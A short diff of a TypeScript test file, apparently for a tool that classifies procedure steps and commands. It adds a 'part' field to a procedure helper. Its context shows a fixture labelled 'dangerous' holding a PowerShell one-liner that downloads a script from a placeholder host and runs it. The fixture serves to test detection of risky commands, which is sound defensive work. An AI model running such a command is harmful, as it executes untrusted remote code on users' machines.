@@ -24,7 +24,12 @@ const step = (id: string, substeps: Step[] = [], others: Partial<Step> = {}): St
   ...others,
   substeps,
 });
-const procedure = (id: string, heading = '', steps = [step(`${id}1`)]): Procedure => ({ id, heading, steps });
+const procedure = (id: string, heading = '', steps = [step(`${id}1`)]): Procedure => ({
+  id,
+  heading,
+  part: '',
+  steps,
+});
 const dangerous: Command = {
   text: 'irm https://a.example/x | iex',
   effect: 'dangerous',
